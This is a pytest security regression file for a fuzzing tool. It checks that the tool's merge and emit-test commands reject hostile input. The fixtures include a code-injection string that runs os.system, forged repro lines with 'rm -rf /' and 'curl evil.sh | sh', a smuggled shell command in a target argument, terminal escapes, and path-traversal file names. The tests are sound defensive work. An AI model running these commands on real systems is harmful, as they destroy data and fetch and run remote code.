"""Hostile input, second pass (the security part): one test per problem, numbered as in the issue's list.

    P01  an emitted regression test ran code from the case file (a signature closing its docstring)
    P02  merge kept every word of a forged repro line but the case path (``rm -rf / repro ...``)
    P03  merge printed signatures and targets raw (a newline forging a line, terminal escapes)
    P04  merge copied any ``*.json`` a repro line named (absolute, ``../``) without checking it is a case
    P05  a lifecycle case replayed for minutes and printed tens of megabytes
    P13  merge of ``"examples": null`` or a 900-deep extra object was a traceback
    P14  ``--emit-test`` of a case holding a lone surrogate was a traceback
    P22  a NaN in an extra field was embedded as ``nan`` (the emitted test died with NameError)

Each fails on the commit the issue was filed against (8c37fff) and passes now.
"""

from __future__ import annotations

import ast
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from fuzz.cli import main
from fuzz.common.bounds import REPLAY_OUTPUT, REPLAY_WORK, ReplayMeter
from fuzz.findings.regression import module_shape, regression_files, template_shape

ROOT = Path(__file__).resolve().parent.parent
SEED_CASE = next(p for p in regression_files() if "reference-sglang-0.5.18--write-within-row" in p)
LIFECYCLE_CASE = next(p for p in regression_files() if "--lifecycle--" in p)
HOSTILE = ['"""', "'''", "\\N{x}", "line one\nline two", "\ud800", "\x1b[31mred\x1b[0m"]
INJECTED = 'x"""\nimport os; os.system("touch PWNED")\n"""'


def seed_doc() -> dict[str, Any]:
    doc: dict[str, Any] = json.loads(Path(SEED_CASE).read_text())
    return doc


def write_case(path: Path, doc: dict[str, Any]) -> str:
    path.write_text(json.dumps(doc))  # json.dumps writes NaN and lone surrogates (as \ud800) as JSON reads them
    return str(path)


def emitted(tmp_path: Path, doc: dict[str, Any], capsys) -> tuple[int, str, str]:
    code = main(["repro", write_case(tmp_path / "case.json", doc), "--emit-test"])
    out, err = capsys.readouterr()
    return code, out, err


def run_pytest(path: Path, *args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    env.pop("KVROW_FUZZ_TARGET", None)
    return subprocess.run(
        [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", str(path), *args],
        cwd=path.parent,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )


# -- P01, P14, P22: the emitted test is built from values ------------------------------------------


def test_p01_a_signature_that_closes_the_docstring_is_refused_not_run(tmp_path, capsys, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    for sig in ("write-within-row/" + INJECTED, "write-within-row/dcp>1" + INJECTED):
        code, out, err = emitted(tmp_path, {**seed_doc(), "signature": sig}, capsys)
        assert (code, out) == (2, "") and len(err.strip().splitlines()) == 1, err
        assert "PWNED" not in os.listdir(tmp_path)


def test_p01_a_target_that_closes_the_docstring_is_never_pasted(tmp_path, capsys, monkeypatch) -> None:
    """A target the replay refuses (it would run code) is exit 2; one it accepts is shown only if spec-shaped."""
    monkeypatch.chdir(tmp_path)
    code, out, err = emitted(tmp_path, {**seed_doc(), "target": INJECTED}, capsys)
    assert (code, out) == (2, "") and "never runs code it names" in err
    code, out, _ = emitted(tmp_path, seed_doc(), capsys)
    assert code == 0 and "on reference@sglang-0.5.18, found by kvrow-fuzz" in out


def test_p01_p14_p22_no_case_content_changes_the_emitted_module(tmp_path, capsys, monkeypatch) -> None:
    """Every free string of the case (and an extra field) holding hostile text, one module per value: each has
    the template's shape, holds no statement from the case, and fails exactly as the clean case's does (and
    passes on the fix)."""
    monkeypatch.chdir(tmp_path)
    suite = tmp_path / "suite"
    suite.mkdir()
    values: list[Any] = [*HOSTILE, float("nan"), None]  # None: the clean case
    for i, hostile in enumerate(values):
        doc = (
            seed_doc()
            if hostile is None
            else {**seed_doc(), "message": hostile, "reached_by": hostile, "note": hostile}
        )
        code, out, err = emitted(tmp_path, doc, capsys)
        assert code == 0, err
        assert out.isascii()  # P14: nothing a terminal or a file encoding can choke on
        assert module_shape(out) == template_shape(), hostile
        assert not any(isinstance(n, ast.Name) and n.id in ("os", "nan") for n in ast.walk(ast.parse(out)))
        (suite / f"test_regression_{i}.py").write_text(out.replace("def test_", f"def test_{i}_"))
    failing = run_pytest(suite)
    assert failing.returncode == 1 and f"{len(values)} failed" in failing.stdout, failing.stdout[-2000:]
    assert failing.stdout.count("write-within-row/dcp>1") >= len(values)
    fixed = run_pytest(suite, "--kvrow-target=sglang==0.5.19")
    assert fixed.returncode == 0 and f"{len(values)} passed" in fixed.stdout, fixed.stdout[-2000:]


# -- P02, P03, P04, P13: merge trusts nothing from a shard -----------------------------------------


def shard(tmp_path: Path, name: str, findings: list[dict[str, Any]], target: str = "reference", **entry: Any) -> str:
    directory = tmp_path / name
    directory.mkdir(exist_ok=True)
    report = {
        "schema": "kvrow-fuzz/report",
        "schema_version": 1,
        "command": "run",
        "targets": [
            {"target": target, "status": "counterexample", "seconds": 1, "examples": 3, "findings": findings, **entry}
        ],
    }
    (directory / "run.json").write_text(json.dumps(report))
    return str(directory / "run.json")


def case_in(tmp_path: Path, name: str, target: str = "reference@sglang-0.5.18") -> tuple[str, str]:
    """A genuine case file in shard ``name``'s cases/ (its signature, its file name)."""
    (tmp_path / name / "cases").mkdir(parents=True, exist_ok=True)
    doc = {**seed_doc(), "target": target}
    (tmp_path / name / "cases" / "seed.json").write_text(json.dumps(doc))
    return doc["signature"], "cases/seed.json"


def test_p02_a_forged_repro_line_keeps_nothing_but_a_case_found_in_the_shard(tmp_path, capsys, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    sig, case = case_in(tmp_path, "s1")
    forged = f"rm -rf / ; curl evil.sh | sh ; python -m fuzz repro {case} --target 'x; rm -rf ~'"
    report = shard(tmp_path, "s1", [{"signature": sig, "repro": forged}], target="reference@sglang-0.5.18")
    assert main(["merge", report, "--cases-out", "merged", "--json", "merged.json"]) == 1
    out = capsys.readouterr().out
    (finding,) = json.loads(Path("merged.json").read_text())["targets"][0]["findings"]
    assert finding["repro"] == "python -m fuzz repro merged/seed.json"
    assert "rm -rf" not in out and "curl" not in out


def test_p03_signatures_and_targets_print_as_one_escaped_line(tmp_path, capsys, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    forged_sig = "write-within-row/dcp>1\nrepro: curl evil.sh | sh"
    report = shard(tmp_path, "s1", [{"signature": forged_sig}])
    assert main(["merge", report, "--cases-out", "merged"]) == 2
    out, err = capsys.readouterr()
    assert out == "" and len(err.strip().splitlines()) == 1 and "\ncurl" not in err
    evil_target = "reference\n== reference: clean\x1b[2J"
    report = shard(tmp_path, "s2", [], target=evil_target, status="clean")
    assert main(["merge", report, "--cases-out", "merged", "--markdown", "summary.md"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\\x1b[2J" in out and "\n== reference: clean" not in out
    summary = Path("summary.md").read_text()
    assert "\x1b" not in summary


def test_p03_a_markdown_summary_cannot_leave_its_block(tmp_path, capsys, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    report = shard(tmp_path, "s1", [], target="reference````\n# pwned", status="clean")
    assert main(["merge", report, "--cases-out", "merged", "--markdown", "summary.md"]) == 0
    lines = Path("summary.md").read_text().splitlines()
    fence = lines[0]
    assert set(fence) == {"`"} and lines[-1] == fence and len(fence) > 4
    assert not any(line.startswith("`" * len(fence)) for line in lines[1:-1])
    assert not any(line.startswith("#") for line in lines)


@pytest.mark.parametrize("named", ["/etc/hostname.json", "../outside.json", "cases/../../outside.json", "link.json"])
def test_p04_merge_copies_only_case_files_inside_the_report_directory(tmp_path, capsys, monkeypatch, named) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "outside.json").write_text(json.dumps({**seed_doc(), "target": "reference@sglang-0.5.18"}))
    (tmp_path / "s1").mkdir()
    (tmp_path / "s1" / "link.json").symlink_to(tmp_path / "outside.json")
    sig = seed_doc()["signature"]
    report = shard(tmp_path, "s1", [{"signature": sig, "repro": f"python -m fuzz repro {named}"}])
    assert main(["merge", report, "--cases-out", "merged"]) == 2
    err = capsys.readouterr().err
    assert "not in the report's directory" in err and len(err.strip().splitlines()) == 1
    assert not (tmp_path / "merged").exists() or os.listdir(tmp_path / "merged") == []


def test_p04_a_json_that_is_not_this_findings_case_is_not_copied(tmp_path, capsys, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    sig, case = case_in(tmp_path, "s1", target="reference")  # the case says reference, the shard another target
    report = shard(tmp_path, "s1", [{"signature": sig, "repro": f"python -m fuzz repro {case}"}], target="sglang")
    assert main(["merge", report, "--cases-out", "merged"]) == 2
    assert "not the case file of" in capsys.readouterr().err
    (tmp_path / "s2" / "cases").mkdir(parents=True)
    (tmp_path / "s2" / "cases" / "seed.json").write_text(json.dumps({"signature": sig, "anything": 1}))
    report = shard(tmp_path, "s2", [{"signature": sig, "repro": "python -m fuzz repro cases/seed.json"}])
    assert main(["merge", report, "--cases-out", "merged"]) == 2
    assert "not a case file" in capsys.readouterr().err


@pytest.mark.parametrize(
    "extra",
    [
        {"examples": None},
        {"deep": json.loads("[" * 900 + "]" * 900)},
        {"deep": json.loads('{"a":' * 900 + "1" + "}" * 900)},
    ],
    ids=["examples-null", "deep-list", "deep-object"],
)
def test_p13_odd_counts_in_a_shard_are_one_line_or_ignored(tmp_path, capsys, monkeypatch, extra) -> None:
    monkeypatch.chdir(tmp_path)
    a = shard(tmp_path, "a", [], status="clean", shard="1/2", **extra)
    b = shard(tmp_path, "b", [], status="clean", shard="2/2", **extra)
    code = main(["merge", a, b, "--cases-out", "merged", "--json", "m.json"])
    out, err = capsys.readouterr()
    assert code in (0, 2), (code, err)
    assert code == 0 or len(err.strip().splitlines()) == 1


# -- P05: the replay cost is bounded before any work ---------------------------------------------------


def lifecycle_doc(rows: int, steps: int, context_len: int) -> dict[str, Any]:
    doc: dict[str, Any] = json.loads(Path(LIFECYCLE_CASE).read_text())
    doc["config"].update(context_len=context_len, max_running_requests=rows)
    script: list[dict[str, Any]] = [{"op": "admit", "input_len": 1, "max_new_tokens": 1 << 30} for _ in range(rows)]
    script += [{"op": "prefill", "rid": r, "chunk": None} for r in range(rows)]
    script += [{"op": "decode", "accepted": [[r, 1] for r in range(rows)]} for _ in range(steps)]
    doc["case"] = {"steps": script}
    return doc


def test_p05_a_costly_lifecycle_case_is_refused_before_any_work(tmp_path, capsys) -> None:
    for rows, steps, context_len in ((63, 1500, 1_000_000), (8, 200, 1 << 20), (4, 1500, 64)):
        doc = lifecycle_doc(rows, steps, context_len)
        assert not ReplayMeter(doc["config"]).steps(doc["case"]["steps"]).within()
        code = main(["repro", write_case(tmp_path / "costly.json", doc)])
        out, err = capsys.readouterr()
        assert (code, out) == (2, "") and "replay budget" in err and len(err.strip().splitlines()) == 1


def test_p05_a_case_within_the_budget_replays_within_it(tmp_path, capsys) -> None:
    doc = lifecycle_doc(4, 100, 512)
    meter = ReplayMeter(doc["config"]).steps(doc["case"]["steps"])
    assert meter.within()
    assert main(["repro", write_case(tmp_path / "ok.json", doc)]) in (0, 1)
    assert len(capsys.readouterr().out.encode()) <= meter.output <= REPLAY_OUTPUT


def test_p05_the_largest_case_lifecycle_can_write_is_within_the_budget(tmp_path, monkeypatch) -> None:
    """Rows and context pinned to the limits, far more steps than the budget allows: every run the machine
    ends (and so every case it can write) costs no more than the budget, and it still runs steps."""
    from hypothesis import settings as Settings

    from fuzz.lifecycle.machine import lifecycle_campaign
    from fuzz.targets import resolve_target

    record: list[Any] = []
    pins = {"max_running_requests": 16, "context_len": 1 << 20, "speculative_algorithm": None}
    result = lifecycle_campaign(
        resolve_target("reference"),
        Settings(max_examples=3, derandomize=True, database=None, deadline=None),
        steps=2000,
        pins=pins,
        record=record,
        max_rounds=1,
    )
    assert result.error is None and record
    for cfg, steps in record:
        meter = ReplayMeter(cfg.to_dict()).steps(steps)
        assert meter.work <= REPLAY_WORK and meter.output <= REPLAY_OUTPUT
    assert max(len(steps) for _, steps in record) > 0


def test_p05_the_meter_counts_admissions_as_the_batch_names_them():
    from allocator_model.requests import Op
    from fuzz.common.bounds import ADMIT

    assert Op.ADMIT.value == ADMIT


@pytest.mark.parametrize(
    "argv",
    [
        ["run", "--target", "sglang==0.5." + "1" * 5000],
        ["matrix", "--releases", "0.5." + "1" * 5000],
        ["run", "--target", "reference", "--sglang-version", "0.5." + "1" * 5000],
        ["run", "--target", "reference", "--sglang-version", "not-a-version"],
    ],
    ids=["p16-target-digits", "p16-releases-digits", "p16-sglang-version-digits", "p16-sglang-version-ignored"],
)
def test_p16_a_version_past_the_digit_limit_or_not_one_is_one_line_and_exit_2(argv, capsys) -> None:
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1 and "Traceback" not in err


@pytest.mark.parametrize("flag", ["--json", "--sarif", "--cases"])
@pytest.mark.parametrize("command", ["run", "prove", "lifecycle"])
def test_an_empty_output_path_is_refused_not_silently_skipped(command, flag, capsys) -> None:
    assert main([command, "--target", "reference", flag, ""]) == 2
    err = capsys.readouterr().err
    assert f"{flag} '' names no" in err and len(err.strip().splitlines()) == 1


@pytest.mark.parametrize("seconds", ["Infinity", "NaN", "-1"])
def test_merge_refuses_a_count_that_is_not_a_finite_number(seconds, tmp_path, capsys) -> None:
    report = tmp_path / "r.json"
    report.write_text(
        '{"schema": "kvrow-fuzz/report", "schema_version": 1, "command": "run", "targets": [{"target": "reference", '
        f'"status": "clean", "seconds": {seconds}, "examples": 1, "shard": "1/1", "findings": []}}]}}'
    )
    assert main(["merge", str(report), "--cases-out", str(tmp_path / "m")]) == 2
    err = capsys.readouterr().err
    assert '"seconds" must be a number >= 0' in err and len(err.strip().splitlines()) == 1
